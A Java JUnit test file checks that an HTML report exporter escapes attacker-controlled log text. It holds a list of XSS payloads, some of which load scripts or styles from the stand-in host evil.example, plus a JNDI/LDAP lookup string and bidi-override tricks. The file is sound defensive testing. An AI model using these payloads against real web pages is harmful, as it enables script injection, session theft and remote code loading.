package io.cutpoint.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.cutpoint.export.MadeFindings.Size;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.TextNode;
import org.jsoup.select.NodeTraversor;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Everything in a log was written by an attacker: as a report's text it is text and nothing else.
class HostileReportTest {

  private static final Size SMALL = new Size(2, 7, 2, 5, 3, 2, 1);

  /// Ways out of where a text may stand.
  private static final List<String> WAYS_OUT = List.of("", "\">", "'>", "--><!--", "</title></style></script>", "</svg></table></details>", "]]>", "\" x=\"", "\u0000\n");

  private static final List<String> ATTACKS = List.of(
      "<script>document.title='pwned'</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=document.title='pwned'>",
      "<svg onload=document.title='pwned'>", "<svg><script>document.title='pwned'</script></svg>", "<svg><a xlink:href=javascript:x><text>t</text></a></svg>",
      "<a href=javascript:document.title='pwned'>click</a>", "<a href=\"data:text/html,x\">x</a>", "<iframe src=javascript:parent.document.title='pwned'></iframe>",
      "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\">", "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
      "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>x</button></form>",
      "<object data=//evil.example></object>", "<embed src=//evil.example>", "<math><mtext><img src=x onerror=document.title='pwned'></mtext></math>",
      "<details open ontoggle=document.title='pwned'>", "<video><source onerror=document.title='pwned'></video>", "<input autofocus onfocus=document.title='pwned'>",
      "<body onload=document.title='pwned'>", "<template><script>document.title='pwned'</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
      "<plaintext>", "<textarea>", "<xmp>", "<!--", "<![CDATA[<script>document.title='pwned'</script>", "&lt;script&gt;document.title='pwned'&lt;/script&gt;",
      "&#60;script&#62;document.title='pwned'&#60;/script&#62;", "\" onmouseover=\"document.title='pwned'", "' onfocus='document.title=1' autofocus='",
      "` onclick=document.title='pwned'", "\u202Egnp.exe", "\u2028<script>document.title='pwned'</script>", "\uD800<img src=x onerror=document.title='pwned'>", "${jndi:ldap://evil.example/x}");

  private static List<String> payloads() {
    List<String> payloads = new ArrayList<>();
    for (String way : WAYS_OUT) {
      ATTACKS.forEach(attack -> payloads.add(way + attack));
    }
    return payloads;
  }

  private static String report(String text) {
    TreeMap<String, Integer> counts = new TreeMap<>();
    return new MadeFindings(SMALL, field -> text + "~" + counts.merge(field, 1, Integer::sum)).report();
  }

  /// All elements with their attributes in order, and how many pieces of text there are; no text itself.
  private static List<String> shape(Document page) {
    List<String> shape = new ArrayList<>();
    for (Element element : page.getAllElements()) {
      StringBuilder line = new StringBuilder(element.tagName());
      for (Attribute attribute : element.attributes()) {
        line.append(' ').append(attribute.getKey()).append('=').append(attribute.getValue());
      }
      shape.add(line.toString());
    }
    return shape;
  }

  @Test
  void noTextAddsOrChangesAnElementOrAnAttributeWhereverItStands() {
    List<String> payloads = payloads();
    List<String> wanted = shape(Jsoup.parse(report("plain")));

    assertThat(payloads).hasSizeGreaterThanOrEqualTo(300).doesNotHaveDuplicates();
    for (String payload : payloads) {
      List<String> found = shape(Jsoup.parse(report(payload)));
      if (!found.equals(wanted)) {
        assertThat(found).as(payload).isEqualTo(wanted);
      }
    }
  }

  @Test
  void everyTextIsThereToRead() {
    Document page = Jsoup.parse(report("<b>&amp;\"'`"));

    assertThat(page.select(".story p").first().text()).startsWith("<b>&amp;\"'`~1");
    assertThat(page.select(".names li").first().text()).isEqualTo("<b>&amp;\"'`~2");
    assertThat(page.select(".process code").first().text()).isEqualTo("<b>&amp;\"'`~1");
    assertThat(page.select("b.image").first().text()).isEqualTo("<b>&amp;\"'`~1");
  }

  @Test
  void noControlOrBidirectionalCharacterIsLeft() {
    Document page = Jsoup.parse(report("\u0000\u0007\u001B[2J\u007F\u0085\u202E\u2066\u200B\u2028\uFEFF"));

    NodeTraversor.traverse((node, depth) -> {
      if (node instanceof TextNode text) {
        assertThat(text.getWholeText().codePoints().filter(c -> c != '\n').noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT || c == 0x2028))
            .as(text.getWholeText()).isTrue();
      }
    }, page);
  }

  @Test
  void inABrowserNoPayloadRunsOrBecomesAnElement(@TempDir Path folder) throws IOException, InterruptedException {
    Optional<Path> browser = Stream.of("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome").map(Path::of).filter(Files::isExecutable).findFirst();
    assumeTrue(browser.isPresent(), "no Chromium is installed here");
    List<String> payloads = payloads();
    TreeMap<String, Integer> counts = new TreeMap<>();
    // Every kind of field comes at least as often as there are payloads, each time with the next one.
    MadeFindings made = new MadeFindings(new Size(350, 12, 1, 10, 3, 9, 350), field -> payloads.get((counts.merge(field, 1, Integer::sum) - 1) % payloads.size()) + counts.get(field));
    String report = made.report();
    Path file = folder.resolve("report.html");
    Files.writeString(file, report);

    Process process = new ProcessBuilder(
            browser.get().toString(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--user-data-dir=" + folder.resolve("profile"), "--virtual-time-budget=2000", "--dump-dom", file.toUri().toString())
        .redirectOutput(folder.resolve("dom.html").toFile())
        .redirectError(folder.resolve("browser.log").toFile())
        .start();
    boolean ended = process.waitFor(180, TimeUnit.SECONDS);
    process.destroyForcibly();
    assertThat(ended).as("the browser ended").isTrue();
    Document page = Jsoup.parse(Files.readString(folder.resolve("dom.html"), StandardCharsets.UTF_8));

    assertThat(counts.get("story")).isGreaterThan(payloads.size());
    assertThat(page.title()).startsWith("Cutpoint report");
    assertThat(page.select("article")).hasSize(Report.MAX_TOLD);
    assertThat(shape(page)).isEqualTo(shape(Jsoup.parse(report)));
  }
}
